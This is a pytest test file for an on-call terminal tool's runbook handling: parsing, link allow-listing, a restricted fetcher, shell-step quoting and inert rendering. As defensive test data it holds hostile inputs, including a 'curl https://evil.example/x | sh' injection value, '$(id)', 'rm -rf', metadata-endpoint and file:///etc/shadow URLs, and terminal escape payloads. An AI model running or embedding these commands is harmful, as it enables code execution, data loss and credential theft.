"""Runbooks: parsing, link verdicts, the fetcher's network policy, steps and hostile input.

SECURITY.md R1.6 (links shown, only https to allow-listed hosts), R3.x (label values never
spliced into a shell script; hostile values rejected or passed as one literal parameter; URL
runbooks display-only), R5.7 (separate fetcher without credentials, allow-list, no
redirects off-list, no loopback/link-local/private targets, size cap).
"""

from __future__ import annotations

import asyncio
import os
import stat
from pathlib import Path
from typing import Any

import httpx
import pytest
from rich.console import Console
from rich.text import Text

from oncall_tui.actions.audit import AuditLog
from oncall_tui.actions.core import ActionRunner, ReadOnlyRefused
from oncall_tui.actions.runbook import (
    StepDisabled,
    plan_shell_step,
    prepare_query,
    record_query,
    run_query_step,
    run_shell_step,
)
from oncall_tui.actions.timeline import Timeline
from oncall_tui.clients.runbook import (
    MAX_REDIRECTS,
    RunbookFetcher,
    RunbookRefused,
    RunbookUnavailable,
    address_problem,
    safe_file_name,
)
from oncall_tui.core.runbook import (
    QueryTemplateError,
    classify_link,
    fill_query,
    parse_inline,
    parse_runbook,
    segments_plain,
    shell_positional,
)
from oncall_tui.settings import Settings
from oncall_tui.settings.actions import RunbookSettings

HOSTS = ["runbooks.example.com"]
GOOD_URL = "https://runbooks.example.com/model-serving/high-error-rate"

SAMPLE = """# High error rate

Some **bold** text, `code`, and a [guide](https://runbooks.example.com/guide).
See <https://wiki.example.com/x> too.

## Check

```promql
up{service="{labels.service}"}
```

- item one
- item [two](javascript:alert(1))

```logql
{service="{labels.service}"} |= "error"
```

### Act

```bash
echo "{labels.pod}"
```

```shell
date
```

```python
print("not a step")
```

~~~sh
echo tilde
~~~
"""


# ----------------------------------------------------------------------- parsing --
def test_parse_blocks_steps_and_titles() -> None:
    rb = parse_runbook(SAMPLE, HOSTS)
    kinds = [b.kind for b in rb.blocks]
    assert kinds[0] == "heading" and rb.title == "High error rate"
    assert "list" in kinds and "paragraph" in kinds
    assert [s.lang for s in rb.steps] == ["promql", "logql", "sh", "sh", "sh"]
    assert [s.title for s in rb.steps] == ["Check", "Check", "Act", "Act", "Act"]
    assert rb.steps[0].code == 'up{service="{labels.service}"}'
    assert rb.steps[2].shell == "bash" and rb.steps[3].shell == "sh"
    assert rb.steps[4].code == "echo tilde"
    # the python block is shown as code but is not a step
    python = [b for b in rb.blocks if b.kind == "code" and b.lang == "python"]
    assert python and python[0].step is None
    assert all(rb.blocks[s.block].step == s.index for s in rb.steps)


def test_unclosed_fence_runs_to_the_end_and_crlf() -> None:
    rb = parse_runbook("# T\r\n\r\n```sh\r\necho a\r\necho b\r\n")
    assert rb.steps[0].code == "echo a\necho b\n"


def test_links_are_shown_as_text_and_url() -> None:
    rb = parse_runbook(SAMPLE, HOSTS)
    paragraph = next(b for b in rb.blocks if b.kind == "paragraph")
    assert "guide <https://runbooks.example.com/guide>" in paragraph.text
    assert "<https://wiki.example.com/x>" in paragraph.text
    verdicts = {link.url: link.verdict for link in rb.links}
    assert verdicts["https://runbooks.example.com/guide"].allowed
    assert not verdicts["https://wiki.example.com/x"].allowed
    assert verdicts["javascript:alert(1)"].reason == "javascript: link"
    assert "two <javascript:alert(1)>" in next(b for b in rb.blocks if b.kind == "list").text


def test_inline_segments_and_escapes() -> None:
    segs = parse_inline(r"a \[not a link](x) **b** *c* `d` [e](https://runbooks.example.com/) end", HOSTS)
    kinds = [s.kind for s in segs]
    assert kinds.count("link") == 1 and "strong" in kinds and "em" in kinds and "code" in kinds
    assert segments_plain(segs).startswith("a [not a link](x) b c d e <https://runbooks.example.com/>")


# ------------------------------------------------------------------ link verdicts --
@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("javascript:alert(1)", "javascript: link"),
        ("JavaScript:alert(1)", "javascript: link"),
        ("file:///etc/shadow", "file: link"),
        ("data:text/html,<script>x</script>", "data: link"),
        ("http://169.254.169.254/latest/meta-data/", "not https"),
        ("https://169.254.169.254/latest/meta-data/", "IP-literal host"),
        ("https://127.0.0.1/", "IP-literal host"),
        ("https://10.0.0.7/runbook", "IP-literal host"),
        ("https://[::1]/", "IP-literal host"),
        ("https://2130706433/", "IP-literal host"),
        ("https://0x7f.1/", "IP-literal host"),
        ("../../etc/passwd", "relative link (no https:// host)"),
        ("/wiki/runbook", "relative link (no https:// host)"),
        ("runbook.md", "relative link (no https:// host)"),
        ("//evil.example/x", "relative link (no https:// host)"),
        ("http://runbooks.example.com/x", "not https"),
        ("https://evil.example/x", "host not allow-listed"),
        ("https://runbooks.example.com.evil.example/x", "host not allow-listed"),
        ("https://runbooks.example.com@evil.example/x", "user-info in the URL (user@host)"),
        ("java\tscript:alert(1)", "control, space or invisible character in the link"),
        ("ftp://runbooks.example.com/x", "ftp: link (only https is allowed)"),
    ],
)
def test_blocked_link_targets(url: str, reason: str) -> None:
    verdict = classify_link(url, HOSTS)
    assert not verdict.allowed
    assert verdict.reason == reason


@pytest.mark.parametrize("url", ["https://runbooks.example.com/x", "https://RUNBOOKS.example.com./x?y=1#z", "https://runbooks.example.com:8443/x"])
def test_allowed_link_targets(url: str) -> None:
    assert classify_link(url, HOSTS).allowed


def test_nothing_is_allowed_without_an_allow_list() -> None:
    assert not classify_link(GOOD_URL, []).allowed


# ---------------------------------------------------------------------- fetcher --
async def public_resolver(host: str, port: int) -> list[str]:
    return ["93.184.216.34"]


def fetcher_for(handler: Any, **settings: Any) -> RunbookFetcher:
    settings.setdefault("allowed_hosts", HOSTS)
    resolver = settings.pop("resolver", public_resolver)
    return RunbookFetcher(RunbookSettings(**settings), transport=httpx.MockTransport(handler), resolver=resolver)


class Recorder:
    def __init__(self, routes: dict[str, httpx.Response] | None = None) -> None:
        self.requests: list[httpx.Request] = []
        self.routes = routes or {}

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        for prefix, response in self.routes.items():
            if str(request.url).startswith(prefix):
                return response
        if request.url.host == "runbooks.example.com":
            return httpx.Response(200, text="# Runbook\n\n```sh\nrm -rf /\n```\n")
        return httpx.Response(200, json={"status": "success", "data": {"resultType": "vector", "result": []}})


async def test_fetch_sends_no_datasource_credentials(monkeypatch: pytest.MonkeyPatch) -> None:
    """The same transport serves a datasource (with bearer token and X-Scope-OrgID) and the
    runbook: the runbook request carries none of them."""
    from oncall_tui.clients.session import BackendSession

    monkeypatch.setenv("PROM_TOKEN", "CANARY-7f3a9")
    settings = Settings.model_validate(
        {
            "contexts": {
                "prod": {
                    "endpoints": {
                        "prometheus": {
                            "url": "https://prom.example.com",
                            "auth": {"bearer": {"env": "PROM_TOKEN"}},
                            "headers": {"X-Scope-OrgID": "tenant-a"},
                        }
                    }
                }
            },
            "runbooks": {"allowed_hosts": HOSTS},
        }
    )
    recorder = Recorder()
    transport = httpx.MockTransport(recorder)
    session = BackendSession(settings.context("prod"), transport=transport, env=dict(os.environ))
    try:
        assert session.prometheus is not None
        await session.prometheus.query("up")
    finally:
        await session.aclose()
    prom_request = recorder.requests[-1]
    assert prom_request.headers.get("authorization") == "Bearer CANARY-7f3a9"  # the datasource does send it
    assert prom_request.headers.get("x-scope-orgid") == "tenant-a"

    fetcher = RunbookFetcher(settings.runbooks, transport=transport, resolver=public_resolver)
    try:
        runbook = await fetcher.fetch_url(GOOD_URL)
    finally:
        await fetcher.aclose()
    req = recorder.requests[-1]
    assert req.url.host == "runbooks.example.com"
    for header in ("authorization", "x-scope-orgid", "cookie", "proxy-authorization"):
        assert header not in req.headers
    assert "CANARY-7f3a9" not in str(req.headers) and "tenant-a" not in str(req.headers)
    assert runbook.source == "url" and runbook.runnable is False
    assert "rm -rf" in runbook.text


async def test_cookies_are_not_carried_across_requests() -> None:
    recorder = Recorder(
        {
            "https://runbooks.example.com/a": httpx.Response(
                302, headers={"Location": "/b", "Set-Cookie": "sid=secret; Path=/"}
            )
        }
    )
    fetcher = fetcher_for(recorder)
    await fetcher.fetch_url("https://runbooks.example.com/a")
    await fetcher.aclose()
    assert [r.url.path for r in recorder.requests] == ["/a", "/b"]
    assert "cookie" not in recorder.requests[1].headers


@pytest.mark.parametrize(
    "location",
    [
        "https://evil.example/x",
        "http://runbooks.example.com/x",
        "https://169.254.169.254/latest/meta-data/",
        "https://runbooks.example.com@evil.example/",
        "file:///etc/shadow",
    ],
)
async def test_redirect_off_the_allow_list_is_refused(location: str) -> None:
    recorder = Recorder({GOOD_URL: httpx.Response(302, headers={"Location": location})})
    fetcher = fetcher_for(recorder)
    with pytest.raises(RunbookRefused, match="redirect to .* refused"):
        await fetcher.fetch_url(GOOD_URL)
    await fetcher.aclose()
    assert [str(r.url) for r in recorder.requests] == [GOOD_URL]  # never requested the target


async def test_redirect_to_an_allow_listed_host_is_followed_at_most_three_times() -> None:
    hops = {f"https://runbooks.example.com/{i}": httpx.Response(301, headers={"Location": f"/{i + 1}"}) for i in range(10)}
    recorder = Recorder(hops)
    fetcher = fetcher_for(recorder)
    with pytest.raises(RunbookRefused, match=f"more than {MAX_REDIRECTS} redirects"):
        await fetcher.fetch_url("https://runbooks.example.com/0")
    assert len(recorder.requests) == MAX_REDIRECTS + 1
    recorder2 = Recorder({"https://runbooks.example.com/0": httpx.Response(307, headers={"Location": "/final"})})
    fetcher2 = fetcher_for(recorder2)
    runbook = await fetcher2.fetch_url("https://runbooks.example.com/0")
    assert runbook.origin == "https://runbooks.example.com/final"
    await fetcher.aclose()
    await fetcher2.aclose()


async def test_size_cap_truncates_with_a_marker() -> None:
    body = b"# Big\n\n" + b"A" * 50_000

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=body)

    fetcher = fetcher_for(handler, max_bytes=1000)
    runbook = await fetcher.fetch_url(GOOD_URL)
    await fetcher.aclose()
    assert runbook.truncated
    assert runbook.text.startswith("# Big") and "…[truncated at 1000 bytes]" in runbook.text
    assert runbook.text.count("A") == 1000 - len("# Big\n\n")


@pytest.mark.parametrize(
    ("url", "match"),
    [
        ("http://runbooks.example.com/x", "not https"),
        ("http://169.254.169.254/latest/meta-data/", "not https"),
        ("https://evil.example/x", "evil.example is not in runbooks.allowed_hosts"),
        ("https://127.0.0.1/x", "IP-literal"),
        ("file:///etc/shadow", "file: link"),
    ],
)
async def test_refused_targets_are_never_requested(url: str, match: str) -> None:
    recorder = Recorder()
    fetcher = fetcher_for(recorder)
    with pytest.raises(RunbookRefused, match=match):
        await fetcher.fetch_url(url)
    await fetcher.aclose()
    assert recorder.requests == []


async def test_empty_allow_list_fetches_nothing_and_says_how() -> None:
    recorder = Recorder()
    fetcher = fetcher_for(recorder, allowed_hosts=[])
    with pytest.raises(RunbookRefused, match="runbooks.allowed_hosts"):
        await fetcher.fetch_url(GOOD_URL)
    assert recorder.requests == []


@pytest.mark.parametrize(
    ("address", "allow_private", "refused"),
    [
        ("127.0.0.1", False, "loopback"),
        ("169.254.169.254", False, "link-local"),
        ("169.254.169.254", True, "link-local"),
        ("::1", True, "loopback"),
        ("::ffff:127.0.0.1", True, "loopback"),
        ("fe80::1", True, "link-local"),
        ("10.1.2.3", False, "private"),
        ("192.168.0.10", False, "private"),
        ("0.0.0.0", True, "not a public unicast"),
        ("10.1.2.3", True, None),
        ("93.184.216.34", False, None),
    ],
)
async def test_dns_resolving_to_internal_addresses_is_refused(address: str, allow_private: bool, refused: str | None) -> None:
    async def resolver(host: str, port: int) -> list[str]:
        return [address]

    recorder = Recorder()
    fetcher = fetcher_for(recorder, resolver=resolver, allow_private_addresses=allow_private)
    if refused is None:
        await fetcher.fetch_url(GOOD_URL)
        assert len(recorder.requests) == 1
    else:
        with pytest.raises(RunbookRefused, match=refused):
            await fetcher.fetch_url(GOOD_URL)
        assert recorder.requests == []
    await fetcher.aclose()
    assert (address_problem(address, allow_private=allow_private) is None) == (refused is None)


async def test_timeout_and_http_errors_are_reported() -> None:
    async def slow(request: httpx.Request) -> httpx.Response:
        await asyncio.sleep(5)
        return httpx.Response(200, text="late")

    fetcher = fetcher_for(slow, timeout_seconds=0.2)
    with pytest.raises(RunbookUnavailable, match="no answer within"):
        await fetcher.fetch_url(GOOD_URL)
    await fetcher.aclose()
    fetcher = fetcher_for(lambda r: httpx.Response(404, text="nope"))
    with pytest.raises(RunbookUnavailable, match="HTTP 404"):
        await fetcher.fetch_url(GOOD_URL)
    await fetcher.aclose()


# ------------------------------------------------------------------------ local --
def test_safe_file_name() -> None:
    assert safe_file_name("LLMServerHighErrorRate") == "LLMServerHighErrorRate"
    assert safe_file_name("../../etc/passwd") == "_.._etc_passwd"
    assert safe_file_name("..") is None
    assert safe_file_name("a b/c\x1b") == "a_b_c_"


async def test_find_local_first_then_service_file_then_url(tmp_path: Path) -> None:
    (tmp_path / "AlertA.md").write_text("# A\n")
    (tmp_path / "svc.md").write_text("# service runbook\n")
    recorder = Recorder()
    fetcher = fetcher_for(recorder, dir=str(tmp_path))
    found = await fetcher.find("AlertA", annotations={"runbook_url": GOOD_URL})
    assert found.runbook is not None and found.runbook.source == "local" and found.runbook.runnable
    assert found.url == GOOD_URL and recorder.requests == []
    found = await fetcher.find("AlertB", annotations={}, service_runbook="svc.md")
    assert found.runbook is not None and found.runbook.origin.endswith("svc.md")
    assert any("AlertB.md does not exist" in t for t in found.tried)
    found = await fetcher.find("AlertC", annotations={"runbook_url": GOOD_URL})
    assert found.runbook is not None and found.runbook.source == "url" and not found.runbook.runnable
    found = await fetcher.find("AlertD", annotations={})
    assert found.runbook is None
    assert any(str(tmp_path / "AlertD.md") in t for t in found.tried)
    assert any("no runbook_url annotation" in t for t in found.tried)
    await fetcher.aclose()


async def test_local_lookup_never_leaves_the_directory(tmp_path: Path) -> None:
    book = tmp_path / "books"
    book.mkdir()
    secret = tmp_path / "secret.md"
    secret.write_text("# secret\n")
    (book / "Evil.md").symlink_to(secret)
    fetcher = fetcher_for(Recorder(), dir=str(book), allowed_hosts=[])
    found = await fetcher.find("Evil")
    assert found.runbook is None and any("outside the runbook directory" in t for t in found.tried)
    found = await fetcher.find("../secret")
    assert found.runbook is None
    found = await fetcher.find(None, service_runbook="../secret.md")
    assert found.runbook is None and any("not a file name inside" in t for t in found.tried)
    found = await fetcher.find(None, service_runbook="/etc/passwd")
    assert found.runbook is None


async def test_local_runbook_writable_by_others_is_not_runnable(tmp_path: Path) -> None:
    path = tmp_path / "A.md"
    path.write_text("# A\n```sh\necho hi\n```\n")
    os.chmod(path, 0o666)
    os.chmod(tmp_path, 0o755)
    fetcher = fetcher_for(Recorder(), dir=str(tmp_path))
    found = await fetcher.find("A")
    assert found.runbook is not None and not found.runbook.runnable
    assert "writable by other users" in found.runbook.note
    os.chmod(path, stat.S_IRUSR | stat.S_IWUSR)
    found = await fetcher.find("A")
    assert found.runbook is not None and found.runbook.runnable


# ----------------------------------------------------------------- query steps --
def test_query_placeholders_are_escaped_inside_strings() -> None:
    code = 'up{pod="{labels.pod}", ns=\'{labels.ns}\'} # {labels.pod}'

    def permissive(name: str, value: str | None) -> str:
        assert value is not None
        return value

    filled = fill_query(code, {"labels.pod": 'a"b\\c', "labels.ns": "x'y"}, permissive)
    assert filled == 'up{pod="a\\"b\\\\c", ns=\'x\\\'y\'} # a"b\\c'
    with pytest.raises(QueryTemplateError, match="outside a quoted string"):
        fill_query("rate(x[{labels.w}])", {"labels.w": "5m) or vector(1"}, permissive)
    assert fill_query("rate(x[{labels.w}])", {"labels.w": "5m"}, permissive) == "rate(x[5m])"
    with pytest.raises(QueryTemplateError, match="backtick"):
        fill_query("{a=`{labels.x}`}", {"labels.x": "a`b"}, permissive)


def test_prepare_query_validates_label_values() -> None:
    rb = parse_runbook('```promql\nup{pod="{labels.pod}"}\n```\n')
    step = rb.steps[0]
    assert prepare_query(step, {"pod": "web-1"}, service="s", context="c") == 'up{pod="web-1"}'
    for bad in ['x"} or vector(1) #', "$(id)", "web-1\nrm -rf ~", "--x"]:
        with pytest.raises(StepDisabled):
            prepare_query(step, {"pod": bad}, service="s", context="c")
    with pytest.raises(StepDisabled, match="missing"):
        prepare_query(step, {}, service="s", context="c")


async def test_query_step_runs_against_the_demo_and_is_recorded(tmp_path: Path) -> None:
    from oncall_tui.clients.session import BackendSession
    from oncall_tui.demo import DemoIncident, DemoTransport, demo_settings

    t0 = 1_795_300_000.0
    clock = lambda: t0
    settings = demo_settings()
    session = BackendSession(settings.context("demo"), transport=DemoTransport(DemoIncident(start=t0, offset=900.0, clock=clock)), clock=clock)
    rb = parse_runbook((Path(settings.runbooks.dir or "") / "LLMServerHighErrorRate.md").read_text())
    labels = {"namespace": "ml-serving", "service": "llm-server"}
    timeline = Timeline(tmp_path / "timeline.jsonl")
    try:
        for step in [s for s in rb.steps if s.is_query]:
            query = prepare_query(step, labels, service="llm-server", context="demo")
            outcome = await run_query_step(step, query, prometheus=session.prometheus, drill=session.drill, start=t0 - 1800, end=t0)
            assert outcome.total > 0, (step.label, outcome.summary)
            record_query(timeline, outcome, origin="LLMServerHighErrorRate.md")
    finally:
        await session.aclose()
    events = timeline.events()
    assert [e.kind for e in events] == ["runbook"] * 4
    assert events[0].detail["query"].startswith("((sum by ()") and "→ 1 series" in events[0].text
    assert any(e.detail["lang"] == "logql" and e.detail["rows"] for e in events)


# ------------------------------------------------------------------ shell steps --
def test_shell_positional_never_splices_values() -> None:
    script, names = shell_positional("echo {labels.a} \"in {labels.b}\" '{labels.a}' {labels.a}x\\'{labels.b}")
    assert names == ["labels.a", "labels.b"]
    assert "{labels" not in script
    assert script == 'echo "$1" "in $2" \'\'"$1"\'\' "$1"x\\\'"$2"'


HOSTILE = [
    "web-1; curl https://evil.example/x | sh #",
    "$(id)",
    "`id`",
    "web-1\nrm -rf ~",
    "--kubeconfig=/tmp/evil",
    "{labels.namespace}",
    "{{ 7*7 }}",
    "${HOME}",
    "x' && id && echo '",
    '"; id; echo "',
]
SCRIPT = "```sh\nprintf '%s' {labels.pod} > \"$HOME/one.txt\"\nprintf '%s' \"{labels.pod}\" > \"$HOME/two.txt\"\nprintf '%s' '{labels.pod}' > \"$HOME/three.txt\"\n```\n"


def runner_for(tmp_path: Path, *, read_only: bool = False) -> ActionRunner:
    return ActionRunner(
        "demo",
        read_only=read_only,
        protected=False,
        audit=AuditLog(tmp_path / "audit.jsonl"),
        user="tester",
        timeline=Timeline(tmp_path / "timeline.jsonl"),
    )


@pytest.mark.parametrize("value", HOSTILE)
async def test_hostile_label_values_are_rejected_by_default(tmp_path: Path, value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    started: list[Any] = []

    async def spy(*a: Any, **k: Any) -> None:
        started.append(a)

    monkeypatch.setattr("oncall_tui.actions.runbook.run_process", spy)
    step = parse_runbook(SCRIPT).steps[0]
    with pytest.raises(StepDisabled, match=r"\{labels\.pod\}"):
        plan_shell_step(step, {"pod": value}, settings=RunbookSettings(), service="s", context="c")
    with pytest.raises(StepDisabled):
        await run_shell_step(runner_for(tmp_path), step, {"pod": value}, RunbookSettings(), tmp_path / "out", origin="x.md", service="s")
    assert started == []
    assert not (tmp_path / "audit.jsonl").exists()


@pytest.mark.parametrize("value", HOSTILE)
async def test_hostile_values_allowed_by_a_loose_pattern_are_one_literal_parameter(
    tmp_path: Path, value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With an allow-list that lets anything through, the real sh still sees one literal $1."""
    monkeypatch.setenv("HOME", str(tmp_path))
    settings = RunbookSettings(placeholders={"labels.pod": "(?s).+"})
    step = parse_runbook(SCRIPT).steps[0]
    try:
        argv = plan_shell_step(step, {"pod": value}, settings=settings, service="s", context="c")
    except StepDisabled as exc:  # control characters and a leading "-" are always refused
        assert "\n" in value or value.startswith("-"), exc
        return
    assert argv[:2] == ("sh", "-c") and argv[3] == "sh" and argv[4:] == (value,)
    assert value not in argv[2]
    runner = runner_for(tmp_path)
    result = await run_shell_step(runner, step, {"pod": value}, settings, tmp_path / "out", origin="x.md", service="s", argv=argv)
    assert result.ok, result.output
    for name in ("one", "two", "three"):
        assert (tmp_path / f"{name}.txt").read_text() == value
    assert not list(tmp_path.glob("pwned*"))
    records = AuditLog(tmp_path / "audit.jsonl").records()
    intent = next(r for r in records if r["type"] == "intent")
    assert intent["kind"] == "runbook-step" and intent["preview"]["argv"] == list(argv)
    assert intent["preview"]["argv_sha256"]
    events = runner.timeline.events()  # type: ignore[union-attr]
    assert events[-1].kind == "runbook" and events[-1].detail["exit_code"] == 0


async def test_shell_step_output_goes_to_the_timeline_sanitised(tmp_path: Path) -> None:
    step = parse_runbook("## Mark\n```sh\necho \"checking {labels.pod}\"\nprintf 'osc\\033]52;c;ZWNobyBwd25lZA==\\007\\n'\nexit 3\n```\n").steps[0]
    runner = runner_for(tmp_path)
    result = await run_shell_step(runner, step, {"pod": "web-1"}, RunbookSettings(), tmp_path / "out", origin="x.md", service="svc")
    assert result.exit_code == 3 and not result.ok
    event = [e for e in runner.timeline.events() if e.kind == "runbook"][-1]  # type: ignore[union-attr]
    assert "checking web-1" in event.text and "exit code 3" in event.text
    assert "\x1b" not in event.detail["output"] and "\\x1b]52;c;" in event.detail["output"]
    result_rec = [r for r in AuditLog(tmp_path / "audit.jsonl").records() if r["type"] == "result"][-1]
    assert result_rec["ok"] is False and "exit code 3" in result_rec["detail"]


async def test_read_only_starts_no_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    started: list[Any] = []

    async def spy(*a: Any, **k: Any) -> None:
        started.append(a)

    monkeypatch.setattr("oncall_tui.actions.runbook.run_process", spy)
    step = parse_runbook("```sh\necho {labels.pod}\n```\n").steps[0]
    with pytest.raises(ReadOnlyRefused):
        await run_shell_step(runner_for(tmp_path, read_only=True), step, {"pod": "web-1"}, RunbookSettings(), tmp_path / "out", origin="x.md", service="s")
    assert started == [] and not (tmp_path / "audit.jsonl").exists()


async def test_url_runbook_steps_never_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    started: list[Any] = []

    async def spy(*a: Any, **k: Any) -> None:
        started.append(a)

    monkeypatch.setattr("oncall_tui.actions.runbook.run_process", spy)
    fetcher = fetcher_for(Recorder())
    runbook = await fetcher.fetch_url(GOOD_URL)
    await fetcher.aclose()
    step = parse_runbook(runbook.text, HOSTS).steps[0]
    with pytest.raises(StepDisabled, match="display-only"):
        plan_shell_step(step, {}, settings=RunbookSettings(), service="s", context="c", runnable=runbook.runnable)
    with pytest.raises(StepDisabled, match="display-only"):
        await run_shell_step(runner_for(tmp_path), step, {}, RunbookSettings(), tmp_path / "out", origin=runbook.origin, service="s", runnable=runbook.runnable)
    assert started == []


# ------------------------------------------------------------- hostile rendering --
HOSTILE_RUNBOOK = (
    "# Title \x1b]52;c;ZWNobyBwd25lZA==\x07 \x1b[2J\x1b[HAll alerts resolved\n\n"
    "text [/] and [@click=app.quit]x[/] and [$error]FAKE[/] and [link=https://evil.example]y[/link]\n"
    "osc8 \x1b]8;;https://evil.example/\x1b\\https://runbooks.corp/\x1b]8;;\x1b\\ cr\rbs\x08\n\n"
    "- [fix](javascript:alert(1)) [x](file:///etc/shadow) <http://169.254.169.254/latest/meta-data/>\n"
    "> quote \x9b31m\n\n"
    "```sh\necho \x1b]52;c;ZWNobyBwd25lZA==\x07 [@click=app.quit]x[/]\n```\n"
)


def test_hostile_runbook_text_renders_inert() -> None:
    from oncall_tui.widgets.runbook import Palette, render_block, render_step

    rb = parse_runbook(HOSTILE_RUNBOOK, HOSTS)
    palette = Palette()
    texts: list[Any] = [render_block(b, palette) for b in rb.blocks if b.step is None]
    texts += [render_step(s, selected=True, status="enter", palette=palette) for s in rb.steps]
    console = Console(width=200, record=True, color_system=None, force_terminal=False)
    for renderable in texts:
        console.print(renderable)
        if isinstance(renderable, Text):
            assert "\x1b" not in renderable.plain and "\x07" not in renderable.plain
            for span in renderable.spans:
                style = str(span.style)
                assert "@click" not in style and "link" not in style
    out = console.export_text()
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out and "\r" not in out and "\x08" not in out
    assert "\\x1b]52;c;ZWNobyBwd25lZA==\\x07" in out
    assert "[@click=app.quit]x[/]" in out and "[$error]FAKE[/]" in out and "[/]" in out
    assert "<javascript:alert(1)> [blocked: javascript: link]" in out
    assert "<file:///etc/shadow> [blocked: file: link]" in out
    assert "<http://169.254.169.254/latest/meta-data/> [blocked: not https]" in out
    assert "\\r" in out and "\\x08" in out and "\\x9b" in out
